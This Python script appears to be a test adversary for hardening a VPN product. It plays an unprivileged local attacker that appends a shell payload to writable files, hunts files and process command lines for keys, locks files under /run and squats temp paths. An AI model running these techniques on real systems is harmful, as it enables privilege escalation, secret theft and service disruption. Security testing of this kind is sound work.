"""A local user of the box who wants to be root, to read the keys, or at least to be in the way.

Without rights he watches every place that he can list, by inotify and by looking again and again, and the command lines
of all processes. To what he can write he adds a line of his, what he can read he searches for the keys, what he can
open below /run he locks, and names that he sees coming he takes. What he achieved is in his log.
"""

from __future__ import annotations

import ctypes
import fcntl
import os
import resource
import stat
import struct
import sys
import time

LOG = sys.argv[1]
with open(sys.argv[2], "rb") as words:
    WANTED = words.read().split()
OWNED = "/tmp/.owned"
PAYLOAD = f"\n{{ sudo -n id || id; echo $0; }} >>{OWNED} 2>/dev/null\n".encode()
ROOTS = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", "/etc/dual-tunnel-vpn", "/etc/swanctl", "/usr/local"]
SQUATS = [
    "/tmp/dual-tunnel-vpn",
    "/dev/shm/dual-tunnel-vpn",
    "/var/tmp/dual-tunnel-vpn",
    "/run/lock/dual-tunnel-vpn.lock",
]
IN_MODIFY, IN_ATTRIB, IN_CLOSE_WRITE, IN_MOVED_TO, IN_CREATE = 0x2, 0x4, 0x8, 0x80, 0x100
EVENTS = IN_MODIFY | IN_ATTRIB | IN_CLOSE_WRITE | IN_MOVED_TO | IN_CREATE

me = os.getuid()
libc = ctypes.CDLL(None, use_errno=True)
inotify = libc.inotify_init1(os.O_NONBLOCK)
log = open(LOG, "a", buffering=1, encoding="utf-8")  # noqa: SIM115 - open until he is killed
watched: dict[int, str] = {}
directories: set[str] = set()
locked: dict[str, int] = {}
told: set[str] = set()
mine: set[str] = {LOG, OWNED, sys.argv[2], os.path.realpath(__file__)}


def tell(text: str) -> None:
    if text not in told:
        told.add(text)
        log.write(f"{time.time():.2f} {text}\n")


def look(path: str, new: bool) -> None:
    """Tries everything on what has appeared."""
    if path in mine:
        return
    try:
        facts = os.lstat(path)
    except OSError:
        return
    if stat.S_ISDIR(facts.st_mode):
        enter(path, new)
    elif stat.S_ISREG(facts.st_mode) and facts.st_uid != me:
        meddle(path)
        read(path)
        if path.startswith("/run/"):
            lock(path)


def enter(path: str, new: bool) -> None:
    if path in directories or path.startswith(("/run/udev", "/usr/local/lib/python", "/usr/local/share")):
        return
    try:
        names = os.listdir(path)
    except OSError:
        return
    directories.add(path)
    number = libc.inotify_add_watch(inotify, path.encode(), EVENTS)
    if number >= 0:
        watched[number] = path
    if new and os.access(path, os.W_OK):
        tell(f"can write in {path}")
    for name in names:
        look(os.path.join(path, name), new)


def meddle(path: str) -> None:
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_APPEND)
    except OSError:
        return
    try:
        if not os.pread(descriptor, 2**20, 0).endswith(PAYLOAD):
            os.write(descriptor, PAYLOAD)
            tell(f"wrote to {path}")
    except OSError:
        pass
    finally:
        os.close(descriptor)


def read(path: str) -> None:
    try:
        with open(path, "rb") as stream:
            content = stream.read(2**20)
    except OSError:
        return
    if any(word in content for word in WANTED):
        tell(f"read a key in {path}")


def lock(path: str) -> None:
    try:
        if path in locked and os.path.samestat(os.fstat(locked[path]), os.stat(path)):
            return
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        return
    locked[path] = descriptor
    if "dual-tunnel" in path:
        tell(f"locked {path}")


def processes() -> None:
    """Sees keys on command lines, and takes names before those who are going to use them."""
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{process}").st_uid == me:
                continue
            with open(f"/proc/{process}/cmdline", "rb") as stream:
                line = stream.read()
        except OSError:
            continue
        if any(word in line for word in WANTED):
            tell("read a key on a command line")
        if b"scp" in line:
            tell("saw scp")
        for word in line.replace(b"\0", b" ").split():
            if word.startswith((b"/tmp/", b"/var/tmp/", b"/dev/shm/", b"/run/")):
                squat(word.decode(errors="replace"))


def squat(path: str) -> None:
    try:
        os.mkdir(path, 0o777)
        mine.add(path)
        tell(f"took the name {path}")
    except OSError:
        pass


def events() -> None:
    try:
        data = os.read(inotify, 2**16)
    except BlockingIOError:
        return
    offset = 0
    while offset < len(data):
        number, _, _, length = struct.unpack_from("iIII", data, offset)
        name = data[offset + 16 : offset + 16 + length].split(b"\0")[0].decode(errors="replace")
        offset += 16 + length
        if number in watched and name:
            look(os.path.join(watched[number], name), True)


resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
for name in SQUATS:
    squat(name)
for root in ROOTS:
    enter(root, False)
tell("watching")
again = 0.0
while True:
    for _ in range(20):
        events()
        time.sleep(0.005)
    processes()
    if time.monotonic() > again:
        # Directories that were closed, or not there, at first.
        for directory in [*ROOTS, *list(directories)]:
            try:
                names = os.listdir(directory)
            except OSError:
                directories.discard(directory)
                continue
            directories.add(directory)
            for name in names:
                look(os.path.join(directory, name), True)
        again = time.monotonic() + 1
